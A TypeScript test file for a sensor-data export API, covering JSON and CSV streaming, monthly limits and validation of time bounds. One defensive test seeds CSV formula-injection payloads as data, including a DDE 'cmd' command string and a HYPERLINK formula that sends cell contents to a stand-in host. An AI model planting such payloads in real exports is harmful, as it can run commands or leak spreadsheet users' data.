/**
 * sensors/export (docs/interface.md#sensors-export): 100,000 values streamed as JSON and as CSV, the monthly limit
 * (429 EXPORT_LIMIT_REACHED with Retry-After and the next allowed date), and a failed export that
 * does not use the allowance.
 */
/* eslint-disable @typescript-eslint/no-unsafe-member-access, @typescript-eslint/no-unsafe-assignment, @typescript-eslint/no-unsafe-argument --
   response bodies are untyped on purpose: these tests check them at run time. */
import { describe, expect, it } from 'vitest';
import { createInfluxClient } from '../../src/history/influx-client.ts';
import { call, PARSER, startApiHarness } from './api-harness.ts';

const N = 100_000;
const end = Math.floor(Date.now() / 1000) * 1000 - 60_000;
const start = end - (N - 1) * 1000;
const values = Array.from({ length: N }, (_, i) => ({
  timeMs: start + i * 1000,
  value: Math.round(i * 7) / 100,
}));

describe('sensors/export', () => {
  it('streams 100,000 values as JSON and as CSV, once per data point and month', async () => {
    const h = await startApiHarness({ exportLimitPerMonth: 1 });
    const { token } = await h.seedEnvironment('demo');
    await h.writeHistory('demo', 'device_1_hallway', 'Temperature', values);
    await h.writeHistory('demo', 'device_2_rd_office', 'Temperature', values);

    const json = await call(h.baseUrl, '/sensors/export', {
      token,
      body: { deviceName: 'device_1_hallway', sensorName: 'Temperature' },
    });
    expect(json.status).toBe(200);
    expect(json.headers.get('content-type')).toMatch(/^application\/json/);
    const data = json.json.data;
    expect(json.json.status).toBe('success');
    expect(Object.keys(data).sort()).toEqual(
      ['deviceName', 'endUTC', 'sensorName', 'sensorType', 'startUTC', 'units', 'values'].sort(),
    );
    expect(data).toMatchObject({
      deviceName: 'device_1_hallway',
      sensorName: 'Temperature',
      sensorType: 'tempC',
      units: ' °C',
      startUTC: 0,
    });
    expect(typeof data.endUTC).toBe('number');
    expect(data.values).toHaveLength(N);
    expect(data.values[0]).toEqual({ time: new Date(start).toISOString(), value: 0 });
    expect(data.values[N - 1]).toEqual({ time: new Date(end).toISOString(), value: values[N - 1]!.value });

    const csv = await call(h.baseUrl, '/sensors/export', {
      token,
      query: 'deviceName=device_2_rd_office&sensorName=Temperature',
      headers: { accept: 'text/csv' },
    });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    const lines = csv.text.trimEnd().split('\n');
    expect(lines).toHaveLength(N + 1);
    expect(lines[0]).toBe('time,value');
    expect(lines[1]).toBe(`${new Date(start).toISOString()},0`);
    expect(lines[N]).toBe(`${new Date(end).toISOString()},${values[N - 1]!.value}`);

    const again = await call(h.baseUrl, '/sensors/export', {
      token,
      body: { deviceName: 'device_1_hallway', sensorName: 'Temperature', format: 'csv' },
    });
    expect([again.status, again.json.error.code]).toEqual([429, 'EXPORT_LIMIT_REACHED']);
    const now = new Date();
    const next = new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth() + 1, 1)).toISOString();
    expect(again.json.error.nextAllowedUTC).toBe(next);
    const retryAfter = Number(again.headers.get('retry-after'));
    expect(Math.abs(Date.now() + retryAfter * 1000 - Date.parse(next))).toBeLessThan(5000);
    const month = now.toISOString().slice(0, 7);
    expect(await h.redis.hgetall(h.keys.exports('demo', month))).toEqual({
      'device_1_hallway|Temperature': '1',
      'device_2_rd_office|Temperature': '1',
    });
  });

  it('does not count an export that failed', async () => {
    const h = await startApiHarness({ exportLimitPerMonth: 1 });
    const { token } = await h.seedEnvironment('demo');
    await h.writeHistory('demo', 'device_3_reception', 'Humidity', values.slice(0, 10));
    const deadInflux = await h.startApp({
      influx: createInfluxClient({ url: 'http://127.0.0.1:1', database: 'x', timeoutMs: 500 }),
    });
    const body = { deviceName: 'device_3_reception', sensorName: 'Humidity' };
    const failed = await call(deadInflux, '/sensors/export', { token, body });
    expect([failed.status, failed.json.error.code]).toEqual([503, 'UNAVAILABLE']);
    const ok = await call(h.baseUrl, '/sensors/export', { token, body });
    expect(ok.status).toBe(200);
    expect(ok.json.data.values).toHaveLength(10);
  });

  it('bounds the export by startUTC and endUTC (inclusive) and is unlimited with a limit of 0', async () => {
    const h = await startApiHarness({ exportLimitPerMonth: 0 });
    const { token } = await h.seedEnvironment('demo');
    await h.writeHistory('demo', 'device_1_hallway', 'CO2', values.slice(0, 100));
    const query = `deviceName=device_1_hallway&sensorName=CO2&startUTC=${(start + 10_000) / 1000}&endUTC=${(start + 19_000) / 1000}`;
    for (let i = 0; i < 2; i++) {
      const res = await call(h.baseUrl, '/sensors/export', { token, query });
      expect(res.status).toBe(200);
      expect(res.json.data.values).toHaveLength(10);
      expect(res.json.data.startUTC).toBe((start + 10_000) / 1000);
      expect(res.json.data.values[0].time).toBe(new Date(start + 10_000).toISOString());
    }
    const empty = await call(h.baseUrl, '/sensors/export', {
      token,
      query: 'deviceName=device_1_hallway&sensorName=Occupancy&format=csv',
    });
    expect(empty.text).toBe('time,value\n');
    // Bounds past what InfluxDB can hold (2262) are valid and simply find nothing there.
    const far = await call(h.baseUrl, '/sensors/export', {
      token,
      query: 'deviceName=device_1_hallway&sensorName=CO2&startUTC=253402300799',
    });
    expect([far.status, far.json.data.values]).toEqual([200, []]);
  });

  it('puts a quote before text a spreadsheet would run as a formula, and leaves numbers alone', async () => {
    const h = await startApiHarness({ exportLimitPerMonth: 0 });
    const { token } = await h.seedEnvironment('demo');
    const spec = {
      name: 'Labels',
      manufacturer: 'Acme',
      version: '1',
      dataPoints: [
        { name: 'Label', displayName: 'Label', dataType: 'string' as const, hysteresis: 0, thresholds: [] },
        { name: 'Level', displayName: 'Level', dataType: 'number' as const, hysteresis: 0, thresholds: [] },
      ],
    };
    await h.admin.applyDefinition({ kind: 'private', env: 'demo' }, spec, PARSER);
    await h.admin.createDevice('demo', { name: 'tag', definitionName: 'Labels', definitionIsPublic: false });
    const texts = [
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://x.example/?"&A1,"Click")',
      '+1',
      '-1',
      '@x',
      '\tx',
      '\rx',
      'plain',
    ];
    const at = (i: number) => start + i * 1000;
    await h.writeHistory(
      'demo',
      'tag',
      'Label',
      texts.map((value, i) => ({ timeMs: at(i), value })),
      'string',
    );
    await h.writeHistory(
      'demo',
      'tag',
      'Level',
      [-3.5, -0.25, 2].map((value, i) => ({ timeMs: at(i), value })),
      'number',
    );
    const csv = (sensorName: string) =>
      call(h.baseUrl, '/sensors/export', { token, body: { deviceName: 'tag', sensorName, format: 'csv' } });
    const cells = (await csv('Label')).text.split('\n').slice(1, -1);
    expect(cells).toEqual([
      `${new Date(at(0)).toISOString()},'=cmd|' /C calc'!A0`,
      `${new Date(at(1)).toISOString()},"'=HYPERLINK(""http://x.example/?""&A1,""Click"")"`,
      `${new Date(at(2)).toISOString()},'+1`,
      `${new Date(at(3)).toISOString()},'-1`,
      `${new Date(at(4)).toISOString()},'@x`,
      `${new Date(at(5)).toISOString()},'\tx`,
      `${new Date(at(6)).toISOString()},"'\rx"`,
      `${new Date(at(7)).toISOString()},plain`,
    ]);
    expect((await csv('Level')).text).toBe(
      `time,value\n${new Date(at(0)).toISOString()},-3.5\n${new Date(at(1)).toISOString()},-0.25\n${new Date(at(2)).toISOString()},2\n`,
    );
    // JSON carries the values as they are.
    const json = await call(h.baseUrl, '/sensors/export', {
      token,
      body: { deviceName: 'tag', sensorName: 'Label' },
    });
    expect((json.json.data.values as { value: string }[]).map((v) => v.value)).toEqual(texts);
  });

  it('refuses startUTC and endUTC outside 0..253402300799 with 400 before using the allowance', async () => {
    const h = await startApiHarness({ exportLimitPerMonth: 1 });
    const { token } = await h.seedEnvironment('demo');
    await h.writeHistory('demo', 'device_1_hallway', 'Humidity', values.slice(0, 10));
    const ref = { deviceName: 'device_1_hallway', sensorName: 'Humidity' };
    for (const [attribute, value] of [
      ['startUTC', 1e20],
      ['endUTC', 1e16],
      ['endUTC', 253402300800],
      ['startUTC', -1],
      ['startUTC', '1e20'],
    ] as const) {
      const res = await call(h.baseUrl, '/sensors/export', { token, body: { ...ref, [attribute]: value } });
      expect([res.status, res.json.error.code, res.json.error.attribute]).toEqual([
        400,
        'INVALID_ATTRIBUTE',
        attribute,
      ]);
    }
    // The largest bound accepted reaches InfluxDB as a valid query, and is the one export of the month.
    const ok = await call(h.baseUrl, '/sensors/export', {
      token,
      body: { ...ref, startUTC: 0, endUTC: 253402300799 },
    });
    expect(ok.status).toBe(200);
    expect(ok.json.data.values).toHaveLength(10);
    const again = await call(h.baseUrl, '/sensors/export', { token, body: ref });
    expect([again.status, again.json.error.code]).toEqual([429, 'EXPORT_LIMIT_REACHED']);
  });
});
